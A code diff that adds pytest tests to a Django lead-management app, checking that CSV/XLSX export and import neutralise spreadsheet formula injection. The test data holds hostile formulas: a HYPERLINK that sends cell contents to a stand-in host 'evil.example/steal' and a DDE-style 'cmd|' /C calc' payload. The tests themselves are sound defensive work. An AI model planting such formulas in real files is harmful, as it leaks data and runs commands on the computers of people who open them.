@@ -205,3 +205,55 @@ def test_imported_leads_do_not_email_the_managers_one_by_one(django_capture_on_c
     with django_capture_on_commit_callbacks(execute=True):
         services.lead_create_or_link(name="Сайт Один", email="site1@example.com", source=LeadSource.WEBSITE)
     assert len(mailoutbox) == 1
+
+
+# --- Formula injection -----------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/steal?c="&A1,"Открыть")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (EVIL, "'" + EVIL),
+        ("+SUM(1,2)", "'+SUM(1,2)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("+77771234567", "+77771234567"),  # a phone stays a phone
+        ("-5", "-5"),
+        ("Анна", "Анна"),
+    ],
+)
+def test_neutralize_formula(value, written):
+    from apps.core.spreadsheets import neutralize_formula
+
+    assert neutralize_formula(value) == written
+
+
+def test_csv_export_escapes_formulas(admin_client):
+    LeadFactory(name=EVIL, notes="@SUM(1+1)*cmd", phone="+77771234567")
+    response = admin_client.post(EXPORT_URL, {"format": CSV, "resource": 0})
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    row = text.splitlines()[1]
+    assert "'=HYPERLINK" in row and "'@SUM(1+1)*cmd" in row
+    assert ",=HYPERLINK" not in row and ',"=HYPERLINK' not in row
+    assert "+77771234567" in row and "'+77771234567" not in row
+
+
+def test_xlsx_export_writes_formulas_as_text(admin_client):
+    LeadFactory(name=EVIL)
+    response = admin_client.post(EXPORT_URL, {"format": XLSX, "resource": 0})
+    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=2)
+    assert cell.data_type == "s"  # a string, not a formula ("f")
+    assert cell.value == "'" + EVIL
+
+
+def test_import_stores_formulas_as_inert_text(admin_client):
+    csv_file = f'name,email,notes\n"{EVIL.replace(chr(34), chr(34) * 2)}",evil@example.com,=1+1\n'
+    preview = upload(admin_client, csv_file.encode(), "leads.csv", CSV)
+    assert not preview.context["result"].has_validation_errors()
+    confirm(admin_client, preview)
+    lead = Lead.objects.get(email="evil@example.com")
+    assert (lead.name, lead.notes) == ("'" + EVIL, "'=1+1")
